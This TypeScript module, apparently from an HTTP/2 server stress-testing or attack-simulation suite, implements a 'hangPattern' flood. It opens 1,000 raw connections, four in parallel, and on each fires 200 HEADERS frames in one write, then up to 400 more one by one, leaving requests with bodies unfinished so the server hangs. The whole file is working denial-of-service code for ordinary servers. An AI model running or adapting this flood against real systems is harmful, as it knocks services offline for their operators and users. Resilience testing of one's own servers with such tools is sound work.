import { randomInt } from "node:crypto";
import { encodeFields, headers, PREFACE, settings } from "../../support/clients/http2-frames.ts";
import { type Attack, type AttackContext, inParallel, pause } from "../attack.ts";
import { openRawSession, untilEvent } from "../raw-session.ts";
import { type Kind, requestOf } from "../requests.ts";

const CONNECTIONS = 1_000;
const IN_PARALLEL = 4;
const AT_ONCE = 200;
const ONE_BY_ONE = 400;

/**
 * One connection after another, each with 200 requests in one write, a short pause, and 400 more in separate writes.
 */
export function hangPattern(kind: Kind): Attack {
  return async (context) => {
    const { fields, body } = requestOf(kind);
    const block = encodeFields(fields);
    let made = 0;
    await inParallel(IN_PARALLEL, async () => {
      while (made++ < CONNECTIONS && context.isGoing()) {
        // A request with a body is never finished.
        await attackOnce(context, block, body === undefined);
      }
    });
  };
}

async function attackOnce(context: AttackContext, block: Buffer, endStream: boolean): Promise<void> {
  const session = await openRawSession(context, { isBare: true });
  if (session === undefined) return;
  const toRequest = () => headers(session.nextId(), block, { endStream });
  session.socket.write(Buffer.concat([PREFACE, settings(), ...Array.from({ length: AT_ONCE }, toRequest)]));
  await pause(randomInt(5));
  for (let sent = 0; sent < ONE_BY_ONE && session.isOpen(); sent++) session.socket.write(toRequest());
  context.count("requests", AT_ONCE + ONE_BY_ONE);
  await untilEvent(session.socket, "close", 20);
  session.socket.destroy();
}
